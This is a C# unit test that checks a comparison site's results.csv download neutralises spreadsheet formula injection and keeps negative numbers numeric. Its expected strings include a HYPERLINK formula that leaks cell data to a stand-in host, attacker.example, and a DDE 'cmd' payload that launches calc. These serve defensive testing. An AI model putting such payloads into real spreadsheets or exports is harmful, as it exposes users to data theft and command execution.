using ComparisonSite.Downloads;
using ComparisonSite.Results.Import;
using CsvHelper;

namespace ComparisonSite.Tests.Hostile;

/// <summary>
/// Text that a spreadsheet would run as a formula (=, +, -, @ first) reaches results.csv as inert text, while
/// numbers, negative ones included, stay numbers.
/// </summary>
public sealed class CsvInjectionTests
{
    [Fact]
    public void Formulas_in_names_titles_and_sources_are_neutralised_and_negative_numbers_are_kept()
    {
        var parsed = RunDocumentParser.Parse(
            File.ReadAllBytes(Path.Combine(FixturePaths.Root, "hostile", "formula-injection.json")));
        Assert.Empty(parsed.Problems.Select(p => p.ToString()));
        // Imports refuse negative figures today; the download must still keep them numbers if one is ever stored.
        var document = parsed.Document!;
        var snapshot = TestSnapshots.From(document with
        {
            Results = [.. document.Results.Select(r => r.Framework switch
            {
                "hyperlink" => r with { Value = -1.5 },
                "minus" => r with { Samples = [-2.25, 3, -1E-07] },
                _ => r,
            })],
        });

        var csv = ResultsDownload.ToCsv(snapshot, snapshot.RunsById["formulas-2026-05"]);

        var rows = Read(csv).ToDictionary(r => r["framework"]);
        Assert.Equal("'=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")", rows["hyperlink"]["framework_name"]);
        Assert.Equal("'-2+3+cmd|' /C calc'!A0", rows["minus"]["framework_name"]);
        Assert.Equal("Plain", rows["plain"]["framework_name"]);
        Assert.All(rows.Values, r => Assert.Equal("'+SUM(1,2) run title", r["run_title"]));
        Assert.All(rows.Values, r => Assert.Equal("'@SUM(A1:A9)", r["source"]));
        Assert.All(rows.Values, r => Assert.Equal("'=1+1 deltas", r["scenario_name"]));
        Assert.Equal("-1.5", rows["hyperlink"]["value"]);
        Assert.Equal("-2.25 3 -1E-07", rows["minus"]["samples"]);
        Assert.Equal("42", rows["plain"]["value"]);
        Assert.DoesNotContain(
            Read(csv).SelectMany(r => r.Values),
            field => field.Length > 0 && "=+@".Contains(field[0], StringComparison.Ordinal));
    }

    private static List<Dictionary<string, string>> Read(string text)
    {
        using var reader = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        var header = reader.HeaderRecord!;
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(header.ToDictionary(h => h, h => reader.GetField(h)!));
        }

        return rows;
    }
}
